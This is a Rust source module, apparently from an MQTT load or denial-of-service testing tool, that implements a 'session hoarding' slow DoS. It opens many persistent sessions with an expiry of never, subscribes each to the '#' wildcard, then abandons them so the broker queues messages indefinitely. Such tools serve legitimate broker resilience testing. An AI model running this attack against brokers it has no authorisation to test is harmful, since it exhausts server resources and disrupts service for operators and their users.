//! Sessions that are left behind: the broker queues messages for clients that never come back.

use clap::Args;
use serde::{Deserialize, Serialize};

use super::enumeration::suback;
use super::manner::Manner;
use super::{Deed, Meter, Place, defaults};
use crate::stop::Stop;

/// Options of the sessions left behind.
#[derive(Clone, PartialEq, Debug, Serialize, Deserialize, Args)]
#[serde(default, deny_unknown_fields)]
pub struct SessionHoarding {
    /// Sessions in all
    #[arg(long, default_value_t = 60)]
    pub count: u32,
    /// What each subscribes to
    #[arg(long, default_value = "#")]
    pub filter: String,
    /// Quality of service of the subscription: what is queued
    #[arg(long, default_value_t = 1, value_parser = clap::value_parser!(u8).range(0..=2))]
    pub qos: u8,
    /// Break the connection instead of leaving with a DISCONNECT
    #[arg(long)]
    pub break_off: bool,
    /// How it goes about it
    #[command(flatten)]
    pub manner: Manner,
}

impl Default for SessionHoarding {
    fn default() -> Self {
        defaults()
    }
}

/// Session Expiry Interval (3.1.2.11.2) of 0xFFFFFFFF: never.
const NEVER: &[u8] = b"\x11\xff\xff\xff\xff";

impl Deed for SessionHoarding {
    fn label(&self) -> (&'static str, &'static str) {
        ("mqtt_slow_dos", "A21")
    }

    fn secs(&self) -> u32 {
        self.manner.secs
    }

    fn run(&self, place: &Place, stop: &Stop, meter: &Meter) {
        self.manner.work(place, stop, meter, self.count, |mut worker| {
            while let Some(index) = worker.turn() {
                let mut name = worker.client_id(index);
                if name.is_empty() {
                    name = worker.random.text(20); // a session without a name cannot stay
                }
                let mut hello = worker.hello(&name);
                hello.clean = false;
                // Older versions have no properties, and no end of a session either.
                let bytes = hello.encode_with(NEVER);
                let Some(mut session) = worker.connect_with(&hello, &bytes) else { continue };
                let asked = session
                    .subscribe(&[(self.filter.as_str(), self.qos)])
                    .and_then(|()| suback(&mut session, stop));
                worker.tell(&asked);
                if !self.break_off {
                    session.leave();
                }
            }
        });
    }
}
